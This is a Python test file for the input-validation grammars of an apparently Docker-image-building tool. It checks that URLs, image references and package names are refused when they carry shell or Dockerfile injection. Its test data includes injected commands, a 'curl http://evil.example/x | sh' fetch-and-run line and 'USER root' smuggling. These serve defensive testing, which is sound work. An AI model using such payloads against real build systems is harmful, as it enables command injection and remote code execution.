"""The ASCII-only grammars every outside value passes (dlimages.core.grammar): what each accepts, and one test per
message it can give. Hostile values are the ones the issue-8 review found reaching a shell or a Dockerfile."""

from __future__ import annotations

import pytest

from dlimages.core.grammar import (
    NAME,
    VERSION,
    count_problem,
    host_problem,
    project_name_problem,
    reference_problem,
    repository_problem,
    url_problem,
    version_problem,
)

INJECTING_MIRROR = "http://x/;echo${IFS}INJECTED>/dev/stderr;id>/dev/stderr;#e"


@pytest.mark.parametrize(
    "url",
    [
        "http://mirrors.example.org/ubuntu/",
        "https://pypi.example.org/simple",
        "https://download.pytorch.org/whl/cu118",
        "https://download.pytorch.org/whl/torch_stable.html",
        "http://127.0.0.1:8080/debian",
        "http://[::1]:3142/debian-security/",
        "https://mirror.example.org/a%20b/~user/x+y=z,w",
    ],
)
def test_well_formed_urls_pass(url: str) -> None:
    assert url_problem(url) is None


@pytest.mark.parametrize(
    ("url", "problem"),
    [
        (INJECTING_MIRROR, "has ';' in its path (query strings, fragments and shell characters are not allowed)"),
        ("http://x/$(id)", "has '$' in its path (query strings, fragments and shell characters are not allowed)"),
        ("http://x/`id`", "has '`' in its path (query strings, fragments and shell characters are not allowed)"),
        ("http://x/a#b", "has '#' in its path (query strings, fragments and shell characters are not allowed)"),
        ("https://x/simple?a=b", "has '?' in its path (query strings, fragments and shell characters are not allowed)"),
        ("http://x/a'b", 'has "\'" in its path (query strings, fragments and shell characters are not allowed)'),
        ("http://x/a%zz", "has a '%' in its path that does not start a %XX escape"),
        ("http://x/a b", "has ' ' in its path (query strings, fragments and shell characters are not allowed)"),
        ("http://x/a\nRUN id", "has characters outside printable ASCII"),
        ("http://x/\u0663", "has characters outside printable ASCII"),
        ("ftp://x/debian", "is not an http:// or https:// URL"),
        ("mirror.example.org/debian", "is not an http:// or https:// URL"),
        ("http://-x/debian", "has no valid host name ('-x')"),
        ("http://x:0/debian", "has port '0', not a number from 1 to 65535"),
        ("", "is empty"),
        ("https://x/" + "a" * 2048, "is longer than 2048 characters"),
    ],
)
def test_hostile_urls_are_refused_with_the_character_named(url: str, problem: str) -> None:
    assert url_problem(url) == problem


@pytest.mark.parametrize(
    "url", ["https://user:secret@pypi.example.org/simple", "https://token@pypi.example.org/simple", "http://:p@x/"]
)
def test_credentials_in_a_url_are_refused_with_the_netrc_advice(url: str) -> None:
    assert url_problem(url) == (
        "carries credentials (user:password@): give them with --netrc FILE (a BuildKit secret) instead"
    )


def test_the_problem_never_quotes_the_url_back() -> None:
    # A URL may carry a secret; the message names what is wrong, not the value.
    problem = url_problem("https://user:hunter2@pypi.example.org/simple")
    assert problem is not None and "hunter2" not in problem
    injected = url_problem(INJECTING_MIRROR)
    assert injected is not None and "INJECTED" not in injected


def test_placeholders_are_allowed_only_where_given() -> None:
    wheels = "https://mirror.example.org/pytorch-wheels/{variant}/"
    assert url_problem(wheels, placeholders=("{variant}",)) is None
    assert url_problem(wheels) == (
        "has '{' in its path (query strings, fragments and shell characters are not allowed)"
    )


@pytest.mark.parametrize("field", ["{other}", "{0}", "{}", "{variant.x}", "{variant!r}", "{variant:>9}", "{{x}}"])
def test_other_format_fields_are_refused(field: str) -> None:
    # str.format would raise KeyError, IndexError or AttributeError on these (a traceback during build).
    assert url_problem(f"https://mirror.example.org/wheels/{field}/", placeholders=("{variant}",)) == (
        "has a format field other than {variant}, the only placeholder allowed"
    )


def test_a_fragment_is_allowed_only_in_documentation_links() -> None:
    link = "https://docs.nvidia.com/cuda/cuda-toolkit-release-notes/index.html#id5"
    assert url_problem(link, fragment=True) is None
    assert url_problem(link) == "has '#' in its path (query strings, fragments and shell characters are not allowed)"
    assert url_problem("https://x/a#b;id", fragment=True) == (
        "has a #fragment with characters other than letters, digits and . _ ~ + = , - / %XX"
    )
    assert url_problem("https://u:p@x/a#b", fragment=True) is not None


@pytest.mark.parametrize(
    "reference",
    [
        "ubuntu:22.04",
        "dlimages/base:debian12",
        "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04",
        "registry.example.org:5000/team/ubuntu:22.04@sha256:" + "0" * 64,
        "localhost/ubuntu",
    ],
)
def test_image_references_pass(reference: str) -> None:
    assert reference_problem(reference) is None


@pytest.mark.parametrize(
    ("reference", "problem"),
    [
        ("ubuntu:22.04\nRUN curl http://evil.example/x | sh", "has whitespace or characters outside printable ASCII"),
        ("ubuntu:22.04 AS x", "has whitespace or characters outside printable ASCII"),
        ("ubuntu:22.04\nUSER root", "has whitespace or characters outside printable ASCII"),
        ("--help", "starts with '-' (docker would read it as an option)"),
        ("Ubuntu:22.04", "is not an image reference: lowercase path parts separated by '/', then an optional :tag"),
        ("ubuntu:22.04;id", "is not an image reference: lowercase path parts separated by '/', then an optional :tag"),
        ("bad_host.example.org/x", "has no valid registry host ('bad_host.example.org')"),
        ("", "is empty"),
    ],
)
def test_hostile_image_references_are_refused(reference: str, problem: str) -> None:
    assert reference_problem(reference) == problem


def test_a_repository_takes_no_tag_or_digest() -> None:
    assert repository_problem("nvidia/cuda") is None
    assert repository_problem("registry.example.org:5000/nvidia/cuda") is None
    for tagged in ("nvidia/cuda:12.1", "nvidia/cuda@sha256:" + "0" * 64):
        assert repository_problem(tagged) == (
            "has a :tag or @digest; give the repository alone (each cell adds its own tag)"
        )
    assert repository_problem("nvidia/cuda\nUSER root") == "has whitespace or characters outside printable ASCII"


@pytest.mark.parametrize("value", ["\u0663.\u0661", "\uff11.0", "1.\u0968", "\U0001d7e3"])
def test_versions_and_names_are_ascii_only(value: str) -> None:
    # Python's \d matches these (Arabic-Indic, fullwidth, Devanagari, mathematical digits), and int() reads them.
    assert VERSION.fullmatch(value) is None
    assert NAME.fullmatch(value) is None
    assert version_problem(value) == "is not a version (digits separated by dots, e.g. 2.1)"


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("numpy", None),
        ("typing_extensions", None),
        ("zope.interface", None),
        ("A", None),
        ("numpy\n", "is not a package name"),  # `^...$` let this through: '$' matches before a final newline
        ("numpy ", "is not a package name"),
        ("-numpy", "is not a package name"),
        ("numpy-", "is not a package name"),
        ("torch; rm", "is not a package name"),
        ("--index-url=http://x.example", "is not a package name"),
        ("nump\u0443", "is not a package name"),  # a Cyrillic letter that looks like y
        ("\u017f", "is not a package name"),  # long s, which re.IGNORECASE would take for 's'
        ("", "is empty"),
        ("x" * 101, "is longer than 100 characters"),
    ],
)
def test_package_names_are_pep_508_names_in_ascii(value: str, problem: str | None) -> None:
    assert project_name_problem(value) == problem


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("1", True),
        ("64", True),
        ("0", False),
        ("65", False),
        ("\uff11", False),
        ("\u0663", False),
        (" 3", False),
        ("3 ", False),
        ("1_0", False),
        ("+3", False),
        ("-1", False),
        ("", False),
        ("9" * 5000, False),
        ("abc", False),
    ],
)
def test_counts_are_ascii_digits_in_range(value: str, ok: bool) -> None:
    problem = count_problem(value, 1, 64)
    assert (problem is None) == ok
    if not ok:
        assert problem == f"is {value[:40]!r}, not a whole number from 1 to 64 in ASCII digits"


def test_registry_hosts_keep_to_dns_limits() -> None:
    assert host_problem("a" * 63 + ".example") is None
    assert host_problem("a" * 64 + ".example") == "has a host name part of 64 characters; DNS allows 63"
    assert host_problem(".".join(["a" * 63] * 3 + ["a" * 61])) is None  # 253 characters
    assert host_problem(".".join(["a" * 63] * 3 + ["a" * 62])) == "has a host name of 254 characters; DNS allows 253"
    assert host_problem("[::1]") is None
